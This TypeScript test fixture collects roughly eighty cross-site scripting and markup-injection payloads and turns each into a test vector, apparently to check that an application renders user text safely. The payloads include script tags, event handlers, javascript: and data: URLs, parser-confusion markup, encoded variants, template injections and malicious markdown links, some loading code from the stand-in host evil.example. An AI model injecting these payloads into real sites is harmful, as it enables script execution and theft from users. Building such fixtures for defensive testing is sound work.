/**
 * Known ways to get a script, a style or a foreign element into a page through text. Those that are run call `alert` or
 * `hit`. Each is short enough for a name, which may have 80 characters, with a mark behind it.
 */
const vectors = [
  // Elements and their events.
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT>',
  '<<script>alert(1);//<</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)//',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example)}</style>',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '<x style="animation-name:rotation" onanimationstart=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '` onerror=alert(1) `',
  // What parsers make of broken markup.
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  // Names that stand for something in a document.
  '<img name=getElementById><a id=hit href=x>x</a>',
  '<form id=plaza><input name=attributes></form>',
  // Entities, encodings, odd letters.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;svg onload=alert(1)&#x3e;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u02bascript\u02ba \u2028 <img src=x onerror=alert(1)>',
  // Templates.
  "{{constructor.constructor('alert(1)')()}}",
  '{{$el.ownerDocument.defaultView.alert(1)}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is text
  '${alert(1)} #{alert(1)} <%= alert(1) %>',
  '__proto__[x]=<img src=x onerror=alert(1)>',
  // Markdown.
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61script:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example "onclick=alert(1)")',
  '[x](/\\evil.example)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://evil.example/x.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  'javascript:alert(1)//https://evil.example',
  '[x]: javascript:alert(1)',
  '```"><img src=x onerror=alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | x |',
  '@<img src=x onerror=alert(1)>',
  '@everyone"><svg onload=alert(1)>',
] as const;

export interface Vector {
  /** For a field of one line, with a mark at its end. */
  text: string;
  /** For a field with markdown, with another mark below it. */
  body: string;
  /** What is to be read of the body: itself, unless markdown means something by it, and in any case its mark. */
  spoken: string[];
  /** For tags, which are short: null where it is too long. */
  tag: string | null;
}

const longestTag = 32;
const isMarkdown = /[[\]`*_|&\\@#]|https?:|^<</;

export const allVectors: readonly Vector[] = vectors.map((vector, i) => {
  const text = `${vector} z${i}z`;
  const tag = text.length <= longestTag ? flat(text).toLowerCase() : null;
  return { text, tag, body: `${vector}\n\ny${i}y`, spoken: [...(isMarkdown.test(vector) ? [] : [flat(vector)]), `y${i}y`] };
});

/** As fields of one line keep it, and as one reads it. */
export function flat(text: string): string {
  return text.normalize('NFC').replace(/\s+/g, ' ').trim();
}
